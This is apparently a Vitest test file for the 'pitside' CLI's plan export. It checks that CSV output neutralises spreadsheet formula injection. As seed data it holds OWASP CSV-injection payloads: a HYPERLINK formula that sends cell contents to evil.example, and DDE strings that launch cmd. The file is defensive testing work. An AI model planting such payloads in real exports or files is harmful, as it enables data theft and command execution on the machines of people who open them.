import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseCsv } from '../../shared/csv.ts'
import { runCli } from '../helpers/cli.ts'
import { seedDatabaseFile } from '../helpers/plan-seed.ts'
import { makeTempDir, type TempDir } from '../helpers/temp-db.ts'

// Spawns the built binary: run `npm run build:node` first.
// OWASP "CSV Injection": a cell that starts with = + - @ tab or CR is run as a formula by spreadsheets.
const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|/C calc!A0', '-2+3+cmd|/C calc!A0', '@SUM(1+1)*cmd|/C calc!A0', '\t=1+1', ' =1+1']

let tmp: TempDir
let db: string
let planId: number
beforeAll(async () => {
  tmp = makeTempDir('pitside-export-')
  db = tmp.path('export.db')
  await seedDatabaseFile(db, [
    {
      code: 'HBF',
      storages: [{ code: 'P1', kind: 'deep_pit', species: 'swine', form: 'liquid' }],
      fields: payloads.map((name, i) => ({ code: `F${i + 1}`, name, acres: 20 + i, storage: 'P1', method: 'injected', seasons: [{ season: 2027, crop: 'corn_grain', yieldGoal: 170, previousCrop: 'corn' }] })),
    },
  ])
  const r = await runCli(['--db', db, '--json', 'plan', '--farm', 'HBF', '--season', '2027', '--as-of', '2026-11-15'])
  expect(r.exitCode, String(r.stderr)).toBe(0)
  planId = JSON.parse(String(r.stdout)).plans[0].id
})
afterAll(() => tmp?.cleanup())

describe('pitside export', () => {
  it('writes a plan as RFC 4180 CSV with every formula neutralized and numbers left as numbers', async () => {
    const out = tmp.path('plan.csv')
    const r = await runCli(['--db', db, 'export', String(planId), '--format', 'csv', '--out', out])
    expect(r.exitCode).toBe(0)
    expect(r.stderr).toMatch(/wrote plan \d+ \(HBF 2027 version 1\)/)
    const text = readFileSync(out, 'utf8')
    expect(text.endsWith('\r\n')).toBe(true)
    const { records } = parseCsv(text)
    const header = records[0]!
    const name = header.indexOf('field_name')
    const rate = header.indexOf('rate')
    const names = records.slice(1).map((row) => row[name])
    expect(names).toEqual(payloads.map((p) => `'${p}`))
    for (const row of records.slice(1)) {
      for (const cell of row) expect(cell).not.toMatch(/^[ \t\r]*[=+\-@]/)
      expect(row[rate]).toMatch(/^\d+(\.\d+)?$/)
    }
  })

  it('writes the plan JSON exactly as `pitside plans show --json` prints it', async () => {
    const json = await runCli(['--db', db, 'export', String(planId), '--format', 'json'])
    const show = await runCli(['--db', db, '--json', 'plans', 'show', String(planId)])
    expect(JSON.parse(String(json.stdout))).toEqual(JSON.parse(String(show.stdout)))
    expect(JSON.parse(String(json.stdout)).fields.map((f: any) => f.name)).toEqual(payloads)
  })

  it('needs a format and an existing plan', async () => {
    expect((await runCli(['--db', db, 'export', String(planId)])).exitCode).toBe(64)
    expect((await runCli(['--db', db, 'export', String(planId), '--format', 'xlsx'])).exitCode).toBe(64)
    const missing = await runCli(['--db', db, 'export', '424242', '--format', 'csv'])
    expect(missing.exitCode).toBe(66)
  })
})
